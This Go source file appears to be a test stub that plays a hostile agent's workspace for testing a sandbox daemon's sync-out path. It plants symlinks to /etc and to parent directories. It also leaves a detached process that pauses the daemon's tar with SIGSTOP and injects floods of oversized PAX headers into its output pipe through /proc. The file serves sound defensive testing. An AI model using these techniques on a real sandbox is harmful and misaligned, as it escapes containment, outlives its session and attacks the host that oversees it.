package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// A hostile agent's workspace, for the tests of what comes back from a pod on sync-out (issue
// 26 items 3 and 6): everything in it is the agent's to choose, and so, it turns out, is the
// archive sandboxd makes of it.
//
// KUBECLIP_STUB_LINKS leaves links that lead out of the workspace: `etc -> /etc` and
// `up -> ../../..`, as `ln -s` makes them. (No hardlinks: sandboxd tar archives a hardlinked
// file as a regular file, so an agent's hardlink never reaches an extractor as one.)
//
// KUBECLIP_STUB_PAX_FLOOD leaves a process behind that writes PAX headers into the archive the
// next `sandboxd tar --root <the workspace>` sends. The agent's processes share the uid of the
// execs sandboxd starts, so the process can open /proc/<tar pid>/fd/1, the pipe sandboxd reads
// the archive from, and write into it. To land its headers where the reader expects a header,
// it stops tar (SIGSTOP) and writes only when tar has written exactly a whole number of
// floodAlign blocks, all within the workspace's first floodFiles entries: the stub makes those
// (first by name, sandboxd's order) so that each ends on a floodAlign boundary of the archive,
// and sandboxd writes its archive through a buffer of floodAlign bytes (cmd/sandboxd
// syncBuffer), so every write before the last ends on one. Then it lets tar go on. The headers
// are local PAX headers of just under MAX_PAX_BYTES each, with at most MAX_PAX_RECORDS records
// of distinct keys, and no entry after them: what a reader that keeps every header until an
// entry arrives holds.

const (
	linksVar    = "KUBECLIP_STUB_LINKS"
	paxFloodVar = "KUBECLIP_STUB_PAX_FLOOD"
	// floodCommand is the hidden subcommand the left-behind process runs.
	floodCommand = "kubeclip-pax-flood"
	// floodAlign is sandboxd tar's write size (cmd/sandboxd syncBuffer).
	floodAlign = 256 << 10
	// floodFiles is how many floodAlign-sized entries lead the archive: the flooder's window
	// is while tar writes them (32 MiB; tar writes them in tens of milliseconds, the flooder
	// looks every floodPoll).
	floodFiles = 128
	// floodDir holds them; '!' sorts before every name a workspace usually has.
	floodDir = "!kubeclip-pax-flood"
	// floodHeader is one PAX header's data: under the 1 MiB both extractors accept.
	floodHeader = 1000 << 10
	// floodRecords is the records of one header (both extractors' MAX_PAX_RECORDS is 256).
	floodRecords = 250
	// floodWait bounds how long the flooder waits for tar; floodPoll is how often it looks.
	floodWait = 10 * time.Minute
	floodPoll = time.Millisecond
	// maxFlood bounds KUBECLIP_STUB_PAX_FLOOD.
	maxFlood = 4 << 30
)

// leaveLinks makes the links of KUBECLIP_STUB_LINKS in dir.
func leaveLinks(dir string) error {
	for name, target := range map[string]string{"etc": "/etc", "up": "../../.."} {
		if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
			return fmt.Errorf("%s: %w", linksVar, err)
		}
	}
	return nil
}

// leaveFlood lays out the aligned entries in dir and starts the flooder, detached (a session
// of its own, no stdio: sandboxd ends the agent's exec without waiting for it), to write n
// bytes of PAX headers into the archive of dir.
func leaveFlood(dir string, n int64) error {
	if err := layoutFlood(dir); err != nil {
		return fmt.Errorf("%s: %w", paxFloodVar, err)
	}
	exe, err := os.Executable()
	if err != nil {
		return fmt.Errorf("%s: %w", paxFloodVar, err)
	}
	null, err := os.Open(os.DevNull)
	if err != nil {
		return fmt.Errorf("%s: %w", paxFloodVar, err)
	}
	defer null.Close()
	p, err := os.StartProcess(exe, []string{"claude", floodCommand, strconv.FormatInt(n, 10), dir}, &os.ProcAttr{
		Dir: dir, Env: []string{}, Files: []*os.File{null, null, null},
		Sys: &syscall.SysProcAttr{Setsid: true},
	})
	if err != nil {
		return fmt.Errorf("%s: starting the flooder: %w", paxFloodVar, err)
	}
	return p.Release()
}

// layoutFlood writes floodFiles files under dir/floodDir sized so that the directory's header
// and each file's header and data end on a floodAlign boundary of an archive that starts with
// them: the directory's header and the first file's take two blocks, every later file's one.
func layoutFlood(dir string) error {
	d := filepath.Join(dir, floodDir)
	if err := os.Mkdir(d, 0o755); err != nil {
		return err
	}
	data := bytes.Repeat([]byte("kubeclip pax flood alignment\n"), floodAlign/29+1)
	for i := range floodFiles {
		size := floodAlign - 512
		if i == 0 {
			size -= 512
		}
		if err := os.WriteFile(filepath.Join(d, fmt.Sprintf("f%03d", i)), data[:size], 0o644); err != nil {
			return err
		}
	}
	return nil
}

// floodMain is the flooder: `claude kubeclip-pax-flood BYTES ROOT`. It waits for a `sandboxd
// tar --root ROOT` and floods its archive once; its exit code says how it went (nobody reads it
// in a pod; tests do).
func floodMain(args []string, stderr io.Writer) int {
	if len(args) != 2 {
		fmt.Fprintln(stderr, "usage: claude", floodCommand, "BYTES ROOT")
		return 2
	}
	n, err := strconv.ParseInt(args[0], 10, 64)
	if err != nil || n <= 0 || n > maxFlood {
		fmt.Fprintf(stderr, "%s: %q: want a byte count from 1 to %d\n", floodCommand, args[0], int64(maxFlood))
		return 2
	}
	f := &flooder{proc: "/proc", root: args[1], bytes: n, region: floodFiles * floodAlign}
	written, err := f.run(time.Now().Add(floodWait))
	if err != nil {
		fmt.Fprintf(stderr, "%s: %v (%d bytes written)\n", floodCommand, err, written)
		return 1
	}
	fmt.Fprintf(stderr, "%s: %d bytes written\n", floodCommand, written)
	return 0
}

// flooder floods one archive of root.
type flooder struct {
	proc   string // /proc (tests: the same)
	root   string
	bytes  int64 // the flood's size
	region int64 // the archive's aligned first bytes
}

// errLate: tar wrote past the aligned region before the flooder could stop it.
var errLate = errors.New("tar was past the aligned entries when it was stopped")

// run waits until deadline for the tar, then floods it; it returns the bytes it wrote.
func (f *flooder) run(deadline time.Time) (int64, error) {
	for time.Now().Before(deadline) {
		if pid := f.findTar(); pid != 0 {
			return f.flood(pid)
		}
		time.Sleep(floodPoll)
	}
	return 0, fmt.Errorf("no sandboxd tar --root %s within %s", f.root, floodWait)
}

// findTar is the pid of a `sandboxd tar --root ROOT …`, or 0.
func (f *flooder) findTar() int {
	entries, err := os.ReadDir(f.proc)
	if err != nil {
		return 0
	}
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == os.Getpid() {
			continue
		}
		b, err := os.ReadFile(filepath.Join(f.proc, e.Name(), "cmdline"))
		if err != nil {
			continue
		}
		argv := strings.Split(strings.TrimSuffix(string(b), "\x00"), "\x00")
		if len(argv) >= 4 && filepath.Base(argv[0]) == "sandboxd" && argv[1] == "tar" && argv[2] == "--root" && filepath.Clean(argv[3]) == filepath.Clean(f.root) {
			return pid
		}
	}
	return 0
}

// flood stops pid until it has written a whole number of floodAlign blocks within the region,
// then writes the headers into its stdout and lets it go on.
func (f *flooder) flood(pid int) (int64, error) {
	for {
		if err := syscall.Kill(pid, syscall.SIGSTOP); err != nil {
			return 0, fmt.Errorf("stopping tar (pid %d): %w", pid, err)
		}
		written, err := f.stoppedAt(pid)
		if err == nil && written%floodAlign == 0 && written <= f.region {
			n, err := f.inject(pid)
			if cerr := syscall.Kill(pid, syscall.SIGCONT); err == nil && cerr != nil {
				err = fmt.Errorf("continuing tar: %w", cerr)
			}
			return n, err
		}
		cerr := syscall.Kill(pid, syscall.SIGCONT)
		if err != nil {
			return 0, err
		}
		if cerr != nil {
			return 0, fmt.Errorf("continuing tar: %w", cerr)
		}
		if written > f.region {
			return 0, fmt.Errorf("%w (%d bytes written)", errLate, written)
		}
		time.Sleep(50 * time.Microsecond) // mid-write: let it finish the block
	}
}

// stoppedAt waits until pid is stopped and returns the bytes it has written (its wchar: tar
// writes nothing but its archive).
func (f *flooder) stoppedAt(pid int) (int64, error) {
	dir := filepath.Join(f.proc, strconv.Itoa(pid))
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(20 * time.Microsecond) {
		stat, err := os.ReadFile(filepath.Join(dir, "stat"))
		if err != nil {
			return 0, fmt.Errorf("tar (pid %d): %w", pid, err)
		}
		// "pid (comm) state …": comm may hold anything, so the state follows the last ')'.
		if i := bytes.LastIndexByte(stat, ')'); i > 0 && i+2 < len(stat) && (stat[i+2] == 'T' || stat[i+2] == 't') {
			break
		}
		if time.Now().After(deadline) {
			return 0, fmt.Errorf("tar (pid %d) did not stop", pid)
		}
	}
	counters, err := os.ReadFile(filepath.Join(dir, "io"))
	if err != nil {
		return 0, fmt.Errorf("tar (pid %d): %w", pid, err)
	}
	for _, line := range strings.Split(string(counters), "\n") {
		if v, ok := strings.CutPrefix(line, "wchar: "); ok {
			return strconv.ParseInt(v, 10, 64)
		}
	}
	return 0, fmt.Errorf("tar (pid %d): no wchar in its io", pid)
}

// inject writes f.bytes of headers into pid's stdout; it stops at the first failed write (the
// reader gone: EPIPE).
func (f *flooder) inject(pid int) (int64, error) {
	out, err := os.OpenFile(filepath.Join(f.proc, strconv.Itoa(pid), "fd", "1"), os.O_WRONLY, 0)
	if err != nil {
		return 0, fmt.Errorf("opening tar's stdout: %w", err)
	}
	defer out.Close()
	var n int64
	for i := 0; n < f.bytes; i++ {
		m, err := out.Write(paxFloodHeader(i))
		n += int64(m)
		if err != nil {
			return n, err
		}
	}
	return n, nil
}

// paxFloodHeader is the i-th header of a flood: a ustar block of type 'x' and floodHeader
// bytes of records with keys of their own (kubeclip.flood.<i>.<j>), padded to a block.
func paxFloodHeader(i int) []byte {
	var data bytes.Buffer
	for j := range floodRecords {
		key := fmt.Sprintf("kubeclip.flood.%d.%d", i, j)
		// A record is "<len> <key>=<value>\n" with len counting itself; the value fills the
		// header's share, the last record takes what is left.
		left := floodHeader - data.Len()
		size := left / (floodRecords - j)
		body := len(key) + 3 // ' ', '=', '\n'
		digits := len(strconv.Itoa(size))
		value := strings.Repeat("v", size-body-digits)
		fmt.Fprintf(&data, "%d %s=%s\n", size, key, value)
	}
	hdr := make([]byte, 512)
	copy(hdr[0:], fmt.Sprintf("PaxHeaders/flood%d", i))
	copy(hdr[100:], "0000644\x00")
	copy(hdr[108:], "0000000\x00")
	copy(hdr[116:], "0000000\x00")
	copy(hdr[124:], fmt.Sprintf("%011o\x00", data.Len()))
	copy(hdr[136:], "00000000000\x00")
	hdr[156] = 'x'
	copy(hdr[257:], "ustar\x0000")
	copy(hdr[148:], "        ")
	sum := 0
	for _, b := range hdr {
		sum += int(b)
	}
	copy(hdr[148:], fmt.Sprintf("%06o\x00 ", sum))
	out := append(hdr, data.Bytes()...)
	if pad := len(out) % 512; pad != 0 {
		out = append(out, make([]byte, 512-pad)...)
	}
	return out
}
